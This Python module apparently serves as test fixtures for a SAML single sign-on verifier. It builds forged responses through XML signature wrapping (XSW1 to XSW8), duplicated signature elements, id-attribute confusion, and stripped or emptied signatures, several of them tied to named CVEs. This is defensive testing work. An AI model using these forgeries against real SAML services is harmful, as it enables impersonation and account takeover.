"""Documents that try to sign in as another person: signature wrapping and similar attacks.

Each attack takes the tree of an honest response for Alice, and builds one for Mallory. The signed part stays
in the document, so that a careless verifier accepts it.
"""

import copy
from collections.abc import Callable
from typing import Any

from lxml import etree

from access.sso.saml.provider import DS, SAML, SAMLP

Tree = Any
EVIL = "mallory@evil.test"


def parse(xml: str) -> Tree:
    return etree.fromstring(xml.encode())


def write(tree: Tree) -> str:
    return etree.tostring(tree).decode()


def evil(xml: str) -> str:
    """Returns a copy in Mallory's name."""
    return xml.replace("alice@acme.test", EVIL).replace("Alice", "Mallory")


def assertion_of(tree: Tree) -> Tree:
    return tree.find(f"{{{SAML}}}Assertion")


def signature_of(tree: Tree) -> Tree:
    return tree.find(f"{{{DS}}}Signature")


def without_signature(tree: Tree) -> Tree:
    bare = copy.deepcopy(tree)
    if (found := signature_of(bare)) is not None:
        bare.remove(found)
    return bare


def forged(tree: Tree, identifier: str | None) -> Tree:
    """Returns a copy that names Mallory and has another id, or none if that is empty."""
    copied = parse(evil(write(tree)))
    if identifier is not None:
        copied.set("ID", identifier)
    return copied


def _wrapped_response(tree: Tree, place: Callable[[Tree, Tree, Tree], None]) -> Tree:
    """Puts a forged response around the signed one. If only the assertion is signed, its
    signature is moved.
    """
    bare = without_signature(tree)
    signature = signature_of(tree)
    if signature is None:
        signature = signature_of(assertion_of(tree))
    fake = without_signature(forged(tree, "_evil"))
    fake_assertion = assertion_of(fake)
    fake.replace(fake_assertion, without_signature(fake_assertion))
    signature = copy.deepcopy(signature)
    place(fake, signature, bare)
    return fake


def xsw1(tree: Tree) -> Tree:
    """The signed response is inside the signature of a forged one."""

    def place(fake: Tree, signature: Tree, bare: Tree) -> None:
        fake.insert(1, signature)
        signature.append(bare)

    return _wrapped_response(tree, place)


def xsw2(tree: Tree) -> Tree:
    """The signed response is before the signature in a forged one."""

    def place(fake: Tree, signature: Tree, bare: Tree) -> None:
        fake.insert(1, bare)
        fake.insert(2, signature)

    return _wrapped_response(tree, place)


def xsw3(tree: Tree) -> Tree:
    """A forged assertion is before the signed one."""
    signed = assertion_of(tree)
    signed.addprevious(without_signature(forged(signed, "_evil")))
    return tree


def xsw4(tree: Tree) -> Tree:
    """A forged assertion is around the signed one."""
    signed = assertion_of(tree)
    fake = without_signature(forged(signed, "_evil"))
    tree.replace(signed, fake)
    fake.append(signed)
    return tree


def xsw5(tree: Tree) -> Tree:
    """A forged assertion contains the signature, and the signed one follows it."""
    signed = assertion_of(tree)
    fake = forged(signed, "_evil")
    tree.replace(signed, fake)
    tree.append(without_signature(signed))
    return tree


def xsw6(tree: Tree) -> Tree:
    """A forged assertion contains the signature, and the signed one is inside the signature."""
    signed = assertion_of(tree)
    fake = forged(signed, "_evil")
    tree.replace(signed, fake)
    _holder(fake, tree).append(without_signature(signed))
    return tree


def xsw7(tree: Tree) -> Tree:
    """A forged assertion with the same id is in Extensions before the signed one."""
    signed = assertion_of(tree)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(without_signature(forged(signed, None)))
    tree.insert(1, extensions)
    return tree


def xsw8(tree: Tree) -> Tree:
    """A forged assertion contains the signature, and the signed one is in its Object."""
    signed = assertion_of(tree)
    fake = forged(signed, "_evil")
    tree.replace(signed, fake)
    held = etree.SubElement(_holder(fake, tree), f"{{{DS}}}Object")
    held.append(without_signature(signed))
    return tree


def _holder(fake: Tree, tree: Tree) -> Tree:
    """Returns the signature that something is hidden in: the assertion's or the response's."""
    found = signature_of(fake)
    return found if found is not None else signature_of(tree)


def two_assertions_last(tree: Tree) -> Tree:
    tree.append(without_signature(forged(assertion_of(tree), "_evil")))
    return tree


def same_id_twice(tree: Tree) -> Tree:
    tree.append(without_signature(forged(assertion_of(tree), None)))
    return tree


def _hidden(tree: Tree, holder: Tree) -> Tree:
    """Moves the signed assertion elsewhere, and puts the forged one in its place."""
    signed = assertion_of(tree)
    fake = without_signature(forged(signed, "_evil"))
    tree.replace(signed, fake)
    holder.append(signed)
    return tree


def in_status_detail(tree: Tree) -> Tree:
    return _hidden(tree, etree.SubElement(tree.find(f"{{{SAMLP}}}Status"), f"{{{SAMLP}}}StatusDetail"))


def in_extensions(tree: Tree) -> Tree:
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    tree.insert(1, extensions)
    return _hidden(tree, extensions)


def in_advice(tree: Tree) -> Tree:
    signed = assertion_of(tree)
    fake = without_signature(forged(signed, "_evil"))
    tree.replace(signed, fake)
    etree.SubElement(fake, f"{{{SAML}}}Advice").append(signed)
    return tree


def in_object(tree: Tree) -> Tree:
    """The signature is moved up to the response (CVE-2025-23369 and similar)."""
    signed = assertion_of(tree)
    signature = signature_of(signed)
    if signature is None:
        signature = signature_of(tree)
    fake = without_signature(forged(signed, "_evil"))
    tree.replace(signed, fake)
    bare = without_signature(signed)
    tree.insert(1, signature)
    etree.SubElement(signature, f"{{{DS}}}Object").append(bare)
    return tree


def signature_moved_up(tree: Tree) -> Tree:
    """The assertion's signature is in the response: CVE-2025-23369."""
    signed = assertion_of(tree)
    if (signature := signature_of(signed)) is not None:
        signed.remove(signature)
        tree.insert(1, signature)
    signed.getparent().replace(signed, forged(signed, None))
    return tree


def _smuggled(tree: Tree, parent: str, name: str) -> Tree:
    """Puts a second element of this name before the first, in the signature over a forged assertion."""
    signed = assertion_of(tree)
    tree.replace(signed, forged(signed, None))
    for found in tree.iter(f"{{{DS}}}{parent}"):
        first = found.find(f"{{{DS}}}{name}")
        first.addprevious(copy.deepcopy(first))
    return tree


def two_signed_infos(tree: Tree) -> Tree:
    """CVE-2025-29774."""
    return _smuggled(tree, "Signature", "SignedInfo")


def two_digest_values(tree: Tree) -> Tree:
    """CVE-2024-45409: the verifier found a digest anywhere."""
    return _smuggled(tree, "Reference", "DigestValue")


def two_references(tree: Tree) -> Tree:
    return _smuggled(tree, "SignedInfo", "Reference")


def two_signature_values(tree: Tree) -> Tree:
    return _smuggled(tree, "Signature", "SignatureValue")


def digest_in_status_detail(tree: Tree) -> Tree:
    """CVE-2024-45409: a digest of the forged assertion is in an unsigned place."""
    signed = assertion_of(tree)
    detail = etree.SubElement(tree.find(f"{{{SAMLP}}}Status"), f"{{{SAMLP}}}StatusDetail")
    detail.append(copy.deepcopy(next(tree.iter(f"{{{DS}}}DigestValue"))))
    tree.replace(signed, forged(signed, None))
    return tree


def _ids(tree: Tree, name: str) -> Tree:
    """Adds an attribute to the forged assertion that another reader takes for the id."""
    signed = assertion_of(tree)
    fake = without_signature(forged(signed, "_evil"))
    fake.set(name, signed.get("ID"))
    signed.addprevious(fake)
    return tree


def id_as_id(tree: Tree) -> Tree:
    return _ids(tree, "id")


def id_as_xml_id(tree: Tree) -> Tree:
    return _ids(tree, "{http://www.w3.org/XML/1998/namespace}id")


def id_of_another_namespace(tree: Tree) -> Tree:
    return _ids(tree, "{urn:x}ID")


def no_signature(tree: Tree) -> Tree:
    for found in list(tree.iter(f"{{{DS}}}Signature")):
        found.getparent().remove(found)
    return parse(evil(write(tree)))


def empty_signature_value(tree: Tree) -> Tree:
    for found in tree.iter(f"{{{DS}}}SignatureValue"):
        found.text = ""
    return parse(evil(write(tree)))


def empty_digest(tree: Tree) -> Tree:
    for found in tree.iter(f"{{{DS}}}DigestValue"):
        found.text = ""
    return parse(evil(write(tree)))


def changed(tree: Tree) -> Tree:
    return parse(evil(write(tree)))


def another_root(tree: Tree) -> Tree:
    """The whole response is inside another message."""
    outer = etree.Element(f"{{{SAMLP}}}Response", ID="_outer", Version="2.0")
    outer.append(tree)
    return outer


ALL: list[Callable[[Tree], Tree]] = [
    *(xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8),
    *(two_assertions_last, same_id_twice, in_status_detail, in_extensions, in_advice, in_object),
    *(signature_moved_up, two_signed_infos, two_digest_values, two_references, two_signature_values),
    *(digest_in_status_detail, id_as_id, id_as_xml_id, id_of_another_namespace),
    *(no_signature, empty_signature_value, empty_digest, changed, another_root),
]
